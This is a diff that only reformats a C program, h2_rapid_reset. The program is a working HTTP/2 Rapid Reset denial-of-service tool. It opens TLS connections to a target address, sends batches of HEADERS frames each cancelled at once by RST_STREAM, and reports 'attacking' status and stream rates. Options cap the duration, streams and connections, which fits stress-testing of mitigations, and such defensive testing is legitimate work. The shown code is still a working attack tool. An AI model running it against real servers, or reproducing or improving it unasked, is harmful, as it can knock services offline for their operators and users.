@@ -54,8 +54,15 @@
 #include <time.h>
 #include <unistd.h>
 
-enum { F_DATA = 0, F_HEADERS = 1, F_RST_STREAM = 3, F_SETTINGS = 4,
-       F_PING = 6, F_GOAWAY = 7, F_WINDOW_UPDATE = 8 };
+enum {
+	F_DATA = 0,
+	F_HEADERS = 1,
+	F_RST_STREAM = 3,
+	F_SETTINGS = 4,
+	F_PING = 6,
+	F_GOAWAY = 7,
+	F_WINDOW_UPDATE = 8
+};
 #define FL_END_STREAM 0x1
 #define FL_ACK 0x1
 #define FL_END_HEADERS 0x4
@@ -65,10 +72,20 @@ enum { F_DATA = 0, F_HEADERS = 1, F_RST_STREAM = 3, F_SETTINGS = 4,
 #define IN_MAX (1 << 20) /* largest frame we accept to buffer */
 
 static const char *const err_names[] = {
-	"NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
-	"SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
-	"REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
-	"ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
+	"NO_ERROR",
+	"PROTOCOL_ERROR",
+	"INTERNAL_ERROR",
+	"FLOW_CONTROL_ERROR",
+	"SETTINGS_TIMEOUT",
+	"STREAM_CLOSED",
+	"FRAME_SIZE_ERROR",
+	"REFUSED_STREAM",
+	"CANCEL",
+	"COMPRESSION_ERROR",
+	"CONNECT_ERROR",
+	"ENHANCE_YOUR_CALM",
+	"INADEQUATE_SECURITY",
+	"HTTP_1_1_REQUIRED",
 };
 
 static volatile sig_atomic_t stopping;
@@ -83,8 +100,8 @@ static unsigned long long max_streams = 1ull << 40, max_conns = 1000000;
 static unsigned char batch[BATCH];
 static size_t batch_len, per_batch, pair_len, hdr_sid_off, rst_sid_off;
 
-static unsigned long long n_conns, n_streams, n_goaways, n_responses,
-	n_resets, n_bytes;
+static unsigned long long n_conns, n_streams, n_goaways, n_responses, n_resets,
+	n_bytes;
 static char last_goaway[32] = "-";
 
 static double now(void)
@@ -115,8 +132,8 @@ static uint32_t get32(const unsigned char *p)
 }
 
 /* frame header + payload appended at *p; returns the new end */
-static unsigned char *frame(unsigned char *p, int type, int flags,
-			    uint32_t sid, const void *payload, size_t len)
+static unsigned char *frame(unsigned char *p, int type, int flags, uint32_t sid,
+			    const void *payload, size_t len)
 {
 	p[0] = len >> 16;
 	p[1] = len >> 8;
@@ -161,8 +178,8 @@ static void build_batch(void)
 	rst_sid_off = 9 + blen + 5;
 	per_batch = BATCH / pair_len;
 	for (size_t i = 0; i < per_batch; i++) {
-		p = frame(p, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, 1, block,
-			  blen);
+		p = frame(p, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, 1,
+			  block, blen);
 		p = frame(p, F_RST_STREAM, 0, 1, cancel, 4);
 	}
 	batch_len = p - batch;
@@ -206,8 +223,10 @@ static SSL *conn_open(int *fdp, const char **why)
 	}
 	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
 	/* a server that accepts and never finishes the handshake */
-	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &hs_timeout, sizeof(hs_timeout));
-	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &hs_timeout, sizeof(hs_timeout));
+	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &hs_timeout,
+		   sizeof(hs_timeout));
+	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &hs_timeout,
+		   sizeof(hs_timeout));
 	if (connect(fd, (struct sockaddr *)&dst, sizeof(dst))) {
 		*why = strerror(errno);
 		close(fd);
@@ -252,7 +271,8 @@ static size_t parse(const unsigned char *in, size_t len, unsigned char *ctl,
 	size_t off = 0;
 
 	while (len - off >= 9) {
-		size_t flen = (size_t)in[off] << 16 | in[off + 1] << 8 | in[off + 2];
+		size_t flen =
+			(size_t)in[off] << 16 | in[off + 1] << 8 | in[off + 2];
 		int type = in[off + 3], flags = in[off + 4];
 		const unsigned char *pl = in + off + 9;
 		unsigned char wu[4];
@@ -265,25 +285,30 @@ static size_t parse(const unsigned char *in, size_t len, unsigned char *ctl,
 		switch (type) {
 		case F_SETTINGS:
 			if (!(flags & FL_ACK))
-				*ctl_len = frame(ctl + *ctl_len, F_SETTINGS, FL_ACK, 0,
-						 NULL, 0) - ctl;
+				*ctl_len = frame(ctl + *ctl_len, F_SETTINGS,
+						 FL_ACK, 0, NULL, 0) -
+					   ctl;
 			break;
 		case F_PING:
 			if (!(flags & FL_ACK) && flen == 8)
-				*ctl_len = frame(ctl + *ctl_len, F_PING, FL_ACK, 0, pl,
-						 8) - ctl;
+				*ctl_len = frame(ctl + *ctl_len, F_PING, FL_ACK,
+						 0, pl, 8) -
+					   ctl;
 			break;
 		case F_GOAWAY:
 			n_goaways++;
 			if (flen >= 8) {
 				uint32_t code = get32(pl + 4);
 
-				if (code < sizeof(err_names) / sizeof(err_names[0]))
-					snprintf(last_goaway, sizeof(last_goaway), "%s",
+				if (code <
+				    sizeof(err_names) / sizeof(err_names[0]))
+					snprintf(last_goaway,
+						 sizeof(last_goaway), "%s",
 						 err_names[code]);
 				else
-					snprintf(last_goaway, sizeof(last_goaway),
-						 "0x%x", code);
+					snprintf(last_goaway,
+						 sizeof(last_goaway), "0x%x",
+						 code);
 			}
 			/* no new streams; the server closes, or we do after
 			 * a second */
@@ -300,8 +325,9 @@ static size_t parse(const unsigned char *in, size_t len, unsigned char *ctl,
 			*data_in += flen;
 			if (*data_in >= 1 << 20) {
 				put32(wu, *data_in);
-				*ctl_len = frame(ctl + *ctl_len, F_WINDOW_UPDATE, 0,
-						 0, wu, 4) - ctl;
+				*ctl_len = frame(ctl + *ctl_len,
+						 F_WINDOW_UPDATE, 0, 0, wu, 4) -
+					   ctl;
 				*data_in = 0;
 			}
 			break;
@@ -420,8 +446,9 @@ static void run_conn(SSL *ssl, int fd)
 
 static void usage(void)
 {
-	fprintf(stderr, "usage: h2_rapid_reset ADDR PORT [-s SNI] [-a AUTHORITY] "
-			"[-p PATH] [-d SECONDS] [-n MAX_STREAMS] [-c MAX_CONNS]\n");
+	fprintf(stderr,
+		"usage: h2_rapid_reset ADDR PORT [-s SNI] [-a AUTHORITY] "
+		"[-p PATH] [-d SECONDS] [-n MAX_STREAMS] [-c MAX_CONNS]\n");
 	exit(2);
 }
 
@@ -434,19 +461,33 @@ int main(int argc, char **argv)
 
 	while ((opt = getopt(argc, argv, "s:a:p:d:n:c:")) != -1) {
 		switch (opt) {
-		case 's': sni = optarg; break;
-		case 'a': authority = optarg; break;
-		case 'p': path = optarg; break;
-		case 'd': duration = atof(optarg); break;
-		case 'n': max_streams = strtoull(optarg, NULL, 10); break;
-		case 'c': max_conns = strtoull(optarg, NULL, 10); break;
-		default: usage();
+		case 's':
+			sni = optarg;
+			break;
+		case 'a':
+			authority = optarg;
+			break;
+		case 'p':
+			path = optarg;
+			break;
+		case 'd':
+			duration = atof(optarg);
+			break;
+		case 'n':
+			max_streams = strtoull(optarg, NULL, 10);
+			break;
+		case 'c':
+			max_conns = strtoull(optarg, NULL, 10);
+			break;
+		default:
+			usage();
 		}
 	}
 	if (argc - optind != 2)
 		usage();
 	if (!(duration > 0 && duration <= 3600)) {
-		fprintf(stderr, "h2_rapid_reset: -d must be in (0, 3600] seconds\n");
+		fprintf(stderr,
+			"h2_rapid_reset: -d must be in (0, 3600] seconds\n");
 		return 2;
 	}
 	dst.sin_family = AF_INET;
@@ -463,7 +504,8 @@ int main(int argc, char **argv)
 	sigaction(SIGINT, &sa, NULL);
 	signal(SIGPIPE, SIG_IGN);
 	ctx = SSL_CTX_new(TLS_client_method());
-	if (!ctx || SSL_CTX_set_alpn_protos(ctx, (const unsigned char *)"\x02h2", 3)) {
+	if (!ctx ||
+	    SSL_CTX_set_alpn_protos(ctx, (const unsigned char *)"\x02h2", 3)) {
 		fprintf(stderr, "h2_rapid_reset: cannot set up TLS\n");
 		return 1;
 	}
@@ -477,7 +519,8 @@ int main(int argc, char **argv)
 
 		if (!ssl) {
 			if (!n_conns) {
-				fprintf(stderr, "h2_rapid_reset: cannot attack %s:%s: %s\n",
+				fprintf(stderr,
+					"h2_rapid_reset: cannot attack %s:%s: %s\n",
 					argv[optind], argv[optind + 1], why);
 				return 1;
 			}
@@ -485,8 +528,8 @@ int main(int argc, char **argv)
 			continue;
 		}
 		if (n_conns == 1) {
-			printf("h2_rapid_reset: attacking %s:%s\n", argv[optind],
-			       argv[optind + 1]);
+			printf("h2_rapid_reset: attacking %s:%s\n",
+			       argv[optind], argv[optind + 1]);
 			fflush(stdout);
 		}
 		run_conn(ssl, fd);
@@ -497,8 +540,8 @@ int main(int argc, char **argv)
 	printf("h2_rapid_reset: seconds=%.2f conns=%llu streams=%llu "
 	       "streams_per_s=%.0f goaways=%llu last_goaway=%s responses=%llu "
 	       "resets_recv=%llu bytes_sent=%llu\n",
-	       secs, n_conns, n_streams, n_streams / secs, n_goaways, last_goaway,
-	       n_responses, n_resets, n_bytes);
+	       secs, n_conns, n_streams, n_streams / secs, n_goaways,
+	       last_goaway, n_responses, n_resets, n_bytes);
 	SSL_CTX_free(ctx);
 	return 0;
 }
